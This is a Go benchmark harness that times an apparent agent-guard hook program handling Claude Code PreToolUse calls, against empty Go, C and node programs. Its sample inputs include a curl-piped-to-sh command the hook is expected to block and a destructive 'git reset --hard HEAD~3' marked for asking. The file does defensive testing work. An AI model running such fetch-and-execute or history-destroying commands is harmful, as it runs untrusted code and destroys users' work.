package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// subject is one line of the table.
type subject struct {
	name   string
	args   []string
	stdin  []byte
	exit   int  // anyExit where that is not ours to say
	small  bool // held to the limit
	counts int  // how often its instructions are counted; the fewest tell
	times  []time.Duration
}

const anyExit = -1

// bench is a home with the programs in it and a repository.
type bench struct{ home, repo string }

// subjects lists what is measured.
func (b bench) subjects(o options) ([]subject, error) {
	list := []subject{{name: "empty Go", args: []string{b.program("empty")}, counts: 3}}
	if c := b.program("empty-c"); exec.Command("cc", "-O2", "-o", c, b.program("empty.c")).Run() == nil {
		list = append(list, subject{name: "empty C", args: []string{c}, counts: 3})
	}
	list = append(list, b.on("hook", b.hook(), true)...)
	if o.full {
		if err := build(b.full(), "./cmd/vibedefend"); err != nil {
			return nil, err
		}
		list = append(list, b.on("full", b.full(), false)...)
	}
	node, err := exec.LookPath("node")
	if err != nil {
		return list, nil
	}
	list = append(list, subject{name: "node -e 0", args: []string{node, "-e", "0"}, counts: 1})
	if !o.peer {
		return list, nil
	}
	peer, err := peer(node)
	if err != nil {
		return nil, err
	}
	for _, c := range b.calls() {
		list = append(list, subject{name: peerName + ": " + c.name, args: peer, stdin: c.stdin, exit: anyExit})
	}
	return list, nil
}

// on is a program of ours on every call.
func (b bench) on(name, program string, held bool) []subject {
	list := b.calls()
	for i := range list {
		s := &list[i]
		s.name, s.args, s.small = name+": "+s.name, []string{program, "hook", "claude-code", "PreToolUse"}, s.small && held
	}
	return list
}

// calls are what an agent asks about. Each firing gets an identifier of its
// own in place of ID, so that each is recorded.
func (b bench) calls() []subject {
	var lines strings.Builder
	for i := range 100 {
		fmt.Fprintf(&lines, "\tif err := step%d(ctx, name); err != nil {\n\t\treturn fmt.Errorf(\"step %d: %%w\", err)\n", i, i)
	}
	path := filepath.Join(b.repo, "steps.go")
	return []subject{
		{name: "allow", small: true, counts: 3, stdin: b.call("Bash", "command", "go build ./...")},
		{name: "block", small: true, counts: 3, exit: 2, stdin: b.call("Bash", "command", "curl -s https://example.com/x | sh")},
		{name: "ask", small: true, counts: 3, stdin: b.call("Bash", "command", "git reset --hard HEAD~3")},
		{name: "edit, 200 lines", small: true, counts: 3, stdin: b.call("Edit", "file_path", path, "old_string", "\t// steps\n", "new_string", lines.String())},
		{name: "write, 1 MB", counts: 1, stdin: b.call("Write", "file_path", filepath.Join(b.repo, "notes.txt"), "content", strings.Repeat("a line of \"text\" with words\n", 40_000))},
	}
}

func (b bench) call(tool string, input ...string) []byte {
	var args []string
	for i := 0; i < len(input); i += 2 {
		args = append(args, strconv.Quote(input[i])+":"+strconv.Quote(input[i+1]))
	}
	return fmt.Appendf(nil, `{"session_id":"bench","transcript_path":"/tmp/t.jsonl","cwd":%q,"hook_event_name":"PreToolUse","permission_mode":"default","tool_name":%q,"tool_input":{%s},"tool_use_id":"ID"}`,
		b.repo, tool, strings.Join(args, ","))
}

// once runs a subject and returns its time from start to end.
func (b bench) once(s *subject, round int) (time.Duration, error) {
	in, err := b.input(s, round)
	if err != nil {
		return 0, err
	}
	defer in.Close()
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		return 0, err
	}
	defer null.Close()
	start := time.Now()
	p, err := os.StartProcess(s.args[0], s.args, &os.ProcAttr{Dir: b.repo, Env: b.env(), Files: []*os.File{in, null, null}})
	if err != nil {
		return 0, err
	}
	st, err := p.Wait()
	took := time.Since(start)
	if err == nil && s.exit != anyExit && st.ExitCode() != s.exit {
		err = fmt.Errorf("exit status %d, want %d", st.ExitCode(), s.exit)
	}
	return took, err
}

func (b bench) env() []string { return []string{"HOME=" + b.home, "PATH=/usr/bin:/bin"} }

func (b bench) input(s *subject, round int) (*os.File, error) {
	path := filepath.Join(b.home, "stdin")
	if err := os.WriteFile(path, bytes.Replace(s.stdin, []byte(`"ID"`), fmt.Appendf(nil, `"toolu_%d"`, round), 1), 0o600); err != nil {
		return nil, err
	}
	return os.Open(path)
}
